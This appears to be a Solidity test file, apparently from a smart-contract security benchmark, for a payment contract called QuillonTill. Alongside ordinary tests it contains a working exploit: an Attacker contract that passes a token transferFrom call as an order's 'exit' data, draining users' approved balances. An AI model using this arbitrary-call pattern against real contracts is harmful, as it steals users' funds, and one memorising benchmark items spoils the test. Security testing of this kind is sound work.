// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./QuillonTill.sol";

// assay-canary-dd548fdb-ff40-4c29-bc1b-4e8879dfe200

interface Vm {
    function prank(address sender) external;
    function deal(address to, uint256 amount) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (from != msg.sender && allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract WrappedEther is Token {
    receive() external payable {
        balanceOf[msg.sender] += msg.value;
    }

    function redeem(uint256 amount, address payable to) external {
        balanceOf[msg.sender] -= amount;
        (bool ok, ) = to.call{value: amount}("");
        require(ok);
    }
}

/// A token that answers "false" where others revert.
contract Polite {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }

    function redeem(uint256, address) external pure {}
}

/// A shop that orders once more while it is paid, and passes the refusal on.
contract Eager {
    QuillonTill internal till;
    bytes public refusal;

    constructor(QuillonTill till_) {
        till = till_;
    }

    receive() external payable {
        QuillonTill.Order memory none;
        none.wrapper = address(this);
        none.exit = abi.encodeWithSelector(this.redeem.selector);
        (, refusal) = address(till).call(abi.encodeCall(QuillonTill.settle, (none)));
    }

    function redeem() external pure {}

    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant SHOP = address(0x5309);
    address internal constant ANNE = address(0xA22E);
    address internal constant BELA = address(0xBE1A);

    Token internal usd;
    WrappedEther internal wrapped;
    QuillonTill internal till;
    Attacker internal thief;

    function setUp() public {
        usd = new Token();
        wrapped = new WrappedEther();
        till = new QuillonTill();
        till.setCut(50);
        till.know(address(wrapped), WrappedEther.redeem.selector);
        usd.mint(ANNE, 2_000_000e6);
        usd.mint(BELA, 1_300_000e6);
        vm.deal(address(this), 20 ether);
        (bool ok, ) = address(wrapped).call{value: 20 ether}("");
        require(ok);
        wrapped.transfer(ANNE, 20 ether);
        vm.prank(ANNE);
        usd.approve(address(till), type(uint256).max);
        vm.prank(BELA);
        usd.approve(address(till), type(uint256).max);
        vm.prank(ANNE);
        wrapped.approve(address(till), type(uint256).max);
        thief = new Attacker(till, usd);
    }

    function test_Regular() public {
        vm.prank(BELA);
        till.pay(IToken(address(usd)), SHOP, 250e6, "invoice 7");
        require(usd.balanceOf(SHOP) == 250e6, "paid in dollars");

        QuillonTill.Order memory o = QuillonTill.Order({
            wrapper: address(wrapped),
            amount: 3 ether,
            exit: abi.encodeCall(WrappedEther.redeem, (3 ether, payable(address(till)))),
            shop: SHOP,
            price: 2 ether,
            memo: "invoice 8"
        });
        require(till.ready(ANNE, o), "ready");
        vm.prank(ANNE);
        till.settle(o);
        require(SHOP.balance == 1.99 ether && till.takings() == 0.01 ether, "paid in ether");
        require(ANNE.balance == 1 ether, "rest");

        o.price = 4 ether;
        vm.prank(ANNE);
        (bool ok, ) = address(till).call(abi.encodeCall(QuillonTill.settle, (o)));
        require(!ok, "too little");
        till.collect(payable(address(0xC0)));
        require(address(0xC0).balance == 0.01 ether, "takings");

        till.nominate(ANNE);
        vm.prank(ANNE);
        till.accept();
        require(till.manager() == ANNE, "manager");
    }

    function test_RefusesStrangers() public {
        till.nominate(ANNE);
        vm.prank(BELA);
        vm.expectRevert(Managed.NotManager.selector);
        till.accept();
        vm.prank(BELA);
        vm.expectRevert(Managed.NotManager.selector);
        till.nominate(BELA);
        vm.prank(BELA);
        vm.expectRevert(Managed.NotManager.selector);
        till.setCut(0);
        vm.prank(BELA);
        vm.expectRevert(Managed.NotManager.selector);
        till.know(address(usd), Token.transferFrom.selector);
        vm.prank(BELA);
        vm.expectRevert(Managed.NotManager.selector);
        till.collect(payable(BELA));
    }

    function test_RefusesAHighCut() public {
        till.setCut(100);
        vm.expectRevert(QuillonTill.CutTooHigh.selector);
        till.setCut(101);
    }

    function test_RefusesPaymentsThatFail() public {
        Polite polite = new Polite();
        till.know(address(polite), Polite.redeem.selector);
        vm.prank(ANNE);
        vm.expectRevert(QuillonTill.PaymentRefused.selector);
        till.pay(IToken(address(polite)), SHOP, 1, 0);

        QuillonTill.Order memory o = order(0, 0);
        o.wrapper = address(polite);
        o.exit = abi.encodeCall(Polite.redeem, (0, address(till)));
        vm.prank(ANNE);
        vm.expectRevert(QuillonTill.PaymentRefused.selector);
        till.settle(o);

        // The token takes no ether: neither as a shop nor for its takings.
        o = order(2 ether, 2 ether);
        o.shop = address(usd);
        vm.prank(ANNE);
        vm.expectRevert(QuillonTill.PaymentRefused.selector);
        till.settle(o);
        vm.expectRevert(QuillonTill.PaymentRefused.selector);
        till.collect(payable(address(usd)));
    }

    function test_RefusesAnExitThatFails() public {
        QuillonTill.Order memory o = order(0, 0);
        o.exit = abi.encodeCall(WrappedEther.redeem, (1 ether, payable(address(till)))); // more than it was given
        vm.prank(ANNE);
        vm.expectRevert(QuillonTill.ExitRefused.selector);
        till.settle(o);
    }

    function test_RefusesTooLittle() public {
        vm.deal(address(till), 10 ether); // ether of others, which would pay for what is missing
        QuillonTill.Order memory o = order(2 ether, 3 ether);
        vm.prank(ANNE);
        vm.expectRevert(abi.encodeWithSelector(QuillonTill.TooLittle.selector, 2 ether));
        till.settle(o);
        o = order(2 ether, 1 ether);
        o.amount = 3 ether; // of which only two are redeemed
        vm.prank(ANNE);
        vm.expectRevert(abi.encodeWithSelector(QuillonTill.TooLittle.selector, 2 ether));
        till.settle(o);
    }

    function test_RefusesAnOrderWithinAnOrder() public {
        Eager eager = new Eager(till);
        till.know(address(eager), Eager.redeem.selector);
        QuillonTill.Order memory o = order(2 ether, 2 ether);
        o.shop = address(eager);
        vm.prank(ANNE);
        till.settle(o);
        require(bytes4(eager.refusal()) == QuillonTill.Busy.selector, "one order at a time");
    }

    function order(uint256 amount, uint256 price) internal view returns (QuillonTill.Order memory) {
        return
            QuillonTill.Order({
                wrapper: address(wrapped),
                amount: amount,
                exit: abi.encodeCall(WrappedEther.redeem, (amount, payable(address(till)))),
                shop: SHOP,
                price: price,
                memo: 0
            });
    }

    function exploit() public {
        thief.take(ANNE);
        thief.take(BELA);
    }

    function test_Exploit() public {
        uint256 before = shoppersHold();
        exploit();
        require(shoppersHold() + 3_300_000e6 <= before, "nothing lost");
    }

    function shoppersHold() public view returns (uint256) {
        return usd.balanceOf(ANNE) + usd.balanceOf(BELA);
    }

    function target() public view returns (address) {
        return address(till);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Settles orders of nothing.
contract Attacker {
    QuillonTill internal till;
    Token internal usd;

    constructor(QuillonTill till_, Token usd_) {
        till = till_;
        usd = usd_;
    }

    function take(address from) external {
        bytes memory data = abi.encodeCall(Token.transferFrom, (from, address(this), usd.balanceOf(from)));
        till.settle(QuillonTill.Order(address(usd), 0, data, address(this), 0, 0));
    }
}
